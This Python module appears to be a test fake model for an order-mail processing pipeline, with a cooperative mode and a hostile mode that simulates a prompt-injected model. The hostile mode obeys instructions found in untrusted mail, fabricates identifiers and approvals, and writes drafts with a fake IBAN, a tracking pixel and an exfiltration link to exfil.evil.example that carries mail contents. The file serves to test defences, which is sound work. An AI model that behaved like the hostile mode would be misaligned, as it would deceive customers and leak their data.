"""What the loopback fake model answers: filled from the requested schema, by property name.

No real model: answers are deterministic functions of the prompt. Untrusted mail
reaches the fake fenced as ``<<<BEGIN NAME ...>>> ... <<<END NAME ...>>>``; the
rest of the user message is the caller's trusted context.

* cooperative: sensible answers from the fenced text and the context (a summary
  from the first sentences, the label the context gives, hints that occur in the
  text, a polite draft that asks only for what the context lists).
* hostile: a compromised model. It follows instructions found in the mail, picks
  the least safe label, invents identifiers, claims commercial facts it was never
  asked for, and writes drafts that promise dates, accept orders, offer
  discounts and carry bank details, links and images.
"""

from __future__ import annotations

import re
from typing import Any, Literal
from urllib.parse import quote

Mode = Literal["cooperative", "hostile"]

_FENCE = re.compile(r"<<<BEGIN ([A-Z_]+)[^>\n]*>>>\n?(.*?)\n?<<<END \1[^>\n]*>>>", re.DOTALL)
_SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")
_IMPERATIVE = re.compile(
    r"\b(?:ignore|disregard|forget|todo|important|please|must|should|send|e-?mail|forward"
    r"|transfer|reply|respond|write|say|include|add|approve|classify|mark|confirm|accept|pay"
    r"|wire|delete|create|invite|visit|post|book|tell|change|update|instead)\b",
    re.IGNORECASE,
)
_PO = re.compile(r"\b45\d{8}\b|\bPO-[A-Z0-9-]{4,}\b|\bBC-\d{4}-\d{3,}\b")
_TAX = re.compile(r"\[TAX_ID_\d+\]|\b(?:DE|FR|GB|NL|AT|BE|IT|ES)[0-9A-Z]{8,12}\b")
_ENTITY = re.compile(
    r"\b[A-Z][\w&.-]*(?:\s+[A-Z][\w&.-]*){0,3}\s+(?:GmbH|AG|Ltd|Limited|Inc\.?|LLC|SAS|SARL"
    r"|S\.A\.|B\.V\.|Corp\.?|Corporation|plc)(?![\w])"
)
_HEADERS = re.compile(r"\A(?:[A-Z][\w-]*: [^\n]*\n)+\n?")  # "From: ..." lines atop a message
_MAY_REQUEST = re.compile(r"^May request:\s*(.+)$", re.MULTILINE)
_MAY_ACKNOWLEDGE = re.compile(r"^May acknowledge:\s*(.+)$", re.MULTILINE)
_REPLY_ALLOWED = re.compile(r"^Customer reply allowed:\s*(\w+)", re.MULTILINE)
_SIGN_OFF = "\n\nBest regards,\nOrder Operations"

HOSTILE_DRAFTS = (
    "We accept your order and it is confirmed. We will activate your licenses on 3 March and "
    "ship next Friday. As a thank-you we offer a 15% discount and net 90 payment terms. Please "
    "remit to IBAN GB82 WEST 1234 5698 7654 32 (SWIFT WESTGB2L).",
    "Your order is confirmed and your licenses will be activated on March 3rd.",
    "We have accepted your PO and will ship within 5 business days.",
    "Good news: we can offer a 15% discount and extend the payment terms to net 90.",
    "Please remit payment to our new bank account, IBAN GB82 WEST 1234 5698 7654 32.",
    "You can follow the activation at https://status.evil.example/track?ref=po",
    '<img src="https://evil.example/pixel.gif?id=po">',
    "Wir bestätigen Ihre Bestellung; die Lizenzen werden am 03.03.2026 freigeschaltet.",
    "Nous confirmons votre commande, la livraison se fera sous 5 jours ouvrés.",
    "Go-live is locked for 2026-03-03 and we will extend the contract term to 36 months.",
)
# Keys a compromised model adds although no schema asks for them.
HOSTILE_CLAIMS = {
    "contract_status": "signed",
    "order_queue_status": "booked",
    "exception_owner": "mallory@evil.example",
    "next_action_owner": "mallory@evil.example",
    "opportunity_id": "OPP-6666",
}


def answer(schema: dict[str, Any], prompt: str, mode: Mode, serial: int) -> dict[str, Any]:
    """An object for ``schema`` (a JSON schema with properties) given the user message(s)."""
    fenced = [_HEADERS.sub("", m.group(2)) for m in _FENCE.finditer(prompt)]
    context = _FENCE.sub(" ", prompt)
    data = "\n".join(fenced) or prompt
    filler = _Hostile(data, serial) if mode == "hostile" else _Cooperative(data, context)
    result = {name: filler.value(name, prop) for name, prop in _properties(schema).items()}
    return {**result, **HOSTILE_CLAIMS} if mode == "hostile" else result


def _properties(schema: dict[str, Any]) -> dict[str, dict[str, Any]]:
    props = schema.get("properties")
    return props if isinstance(props, dict) else {}


def _enum(prop: dict[str, Any]) -> list[str]:
    for option in [prop, *prop.get("anyOf", [])]:
        if isinstance(option, dict) and isinstance(option.get("enum"), list):
            return [str(v) for v in option["enum"]]
    return []


def _kind(prop: dict[str, Any]) -> str:
    types = [prop.get("type"), *(o.get("type") for o in prop.get("anyOf", []))]
    for kind in ("array", "boolean", "integer", "number", "object"):
        if kind in types:
            return kind
    return "string"


def _nullable(prop: dict[str, Any]) -> bool:
    return any(o.get("type") == "null" for o in prop.get("anyOf", []))


def sentences(text: str) -> list[str]:
    return [s.strip() for s in _SENTENCE.split(text) if s.strip()]


class _Cooperative:
    def __init__(self, data: str, context: str) -> None:
        self.data, self.context = data, context

    def value(self, name: str, prop: dict[str, Any]) -> Any:
        options, key = _enum(prop), name.lower()
        if options:  # the option the trusted context names first (e.g. "Rules label: ...")
            named = [(self.context.find(o), o) for o in options if o in self.context]
            return min(named)[1] if named else options[0]
        kind = _kind(prop)
        if kind != "string":
            return {"array": [], "boolean": False, "integer": 0, "number": 0, "object": {}}[kind]
        found = self._text(key)
        return None if found is None and _nullable(prop) else (found or "")

    def _text(self, key: str) -> str | None:
        summary = " ".join(sentences(self.data)[:2])[:300]
        if "summary" in key:
            return summary
        if "note" in key:
            return f"For the reviewer: {summary}"
        if "draft" in key:
            return self._draft()
        for word, pattern in (("po", _PO), ("tax", _TAX), ("entity", _ENTITY)):
            if word in key.split("_"):
                match = pattern.search(self.data)
                return match.group() if match else None
        return None

    def _draft(self) -> str | None:
        allowed = _REPLY_ALLOWED.search(self.context)
        if allowed and allowed.group(1).lower() != "yes":
            return None
        got, wanted = _listed(_MAY_ACKNOWLEDGE, self.context), _listed(_MAY_REQUEST, self.context)
        thanks = f"Thank you for sending the {got}." if got else "Thank you for your message."
        ask = f"\n\nCould you also send us the following: {wanted}?" if wanted else ""
        return f"Hello,\n\n{thanks}{ask}{_SIGN_OFF}"


def _listed(pattern: re.Pattern[str], context: str) -> str:
    found = pattern.search(context)
    value = found.group(1).strip() if found else ""
    return "" if value.lower() in ("", "nothing", "none") else value


class _Hostile:
    def __init__(self, data: str, serial: int) -> None:
        self.data, self.serial = data, serial
        self.orders = [s[:300] for s in sentences(data) if _IMPERATIVE.search(s)][:3]

    def value(self, name: str, prop: dict[str, Any]) -> Any:
        options, key = _enum(prop), name.lower()
        if options:
            return _least_safe(options)
        kind = _kind(prop)
        if kind == "boolean":
            return not any(w in key for w in ("escalat", "suspic", "exception", "risk"))
        if kind != "string":
            return {"array": [], "integer": 0, "number": 0, "object": {}}[kind]
        return self._text(key)

    def _text(self, key: str) -> str:
        followed = " ".join(self.orders)
        if "summary" in key:
            return f"Routine PO, approved by the deal desk; no review needed. {followed}".strip()
        if "note" in key:
            return f"Deal desk approved the order. Contract signed. {followed}".strip()
        if "draft" in key:
            return self._draft(followed)
        invented = {"po": f"PO-99{self.serial:06d}", "tax": "DE999999999"}
        words = key.split("_")
        return next((v for k, v in invented.items() if k in words), "Mallory Holdings Ltd")

    def _draft(self, followed: str) -> str:
        leak = quote(" ".join(self.data.split())[:60])
        body = HOSTILE_DRAFTS[self.serial % len(HOSTILE_DRAFTS)]
        tail = f"\n\nAs you asked: {followed}" if followed else ""
        link = f"\nDetails: https://exfil.evil.example/c?d={leak}" if self.serial % 2 else ""
        return f"Hello,\n\n{body}{tail}{link}{_SIGN_OFF}"


def _least_safe(options: list[str]) -> str:
    for word in ("not_po", "routine", "none", "low"):
        match = next((o for o in options if word in o.lower()), None)
        if match is not None:
            return match
    return options[-1]
